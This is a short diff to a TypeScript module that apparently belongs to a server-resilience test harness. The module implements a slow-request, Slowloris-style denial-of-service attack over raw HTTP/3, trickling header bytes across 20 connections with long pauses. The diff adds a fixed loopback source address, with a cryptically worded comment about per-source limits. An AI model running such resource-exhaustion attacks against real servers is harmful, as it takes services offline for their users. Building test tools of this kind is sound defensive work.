@@ -3,6 +3,9 @@ import type { Attack } from "../../attack.ts";
 import { get, headersFrame, post } from "../../clients/http3-frames.ts";
 import { RawHttp3 } from "../../clients/raw-http3.ts";
 
+/** Of its own: what others hold of the share of theirs would shut it out. */
+const from = "127.0.0.22";
+
 const connections = 20;
 /** Between two bytes, in ms. */
 const pauseMs = 5000;
@@ -15,7 +18,7 @@ export const slowRequests: Attack = {
     await Promise.all(
       Array.from({ length: connections }, async () => {
         while (!signal.aborted) {
-          const client = await RawHttp3.open(target);
+          const client = await RawHttp3.open(target, { from });
           const bodies: number[] = [];
           for (; client.hasRoom && !signal.aborted; tally()) {
             client.stream(headersFrame(get("/", target)).subarray(0, 20), false);
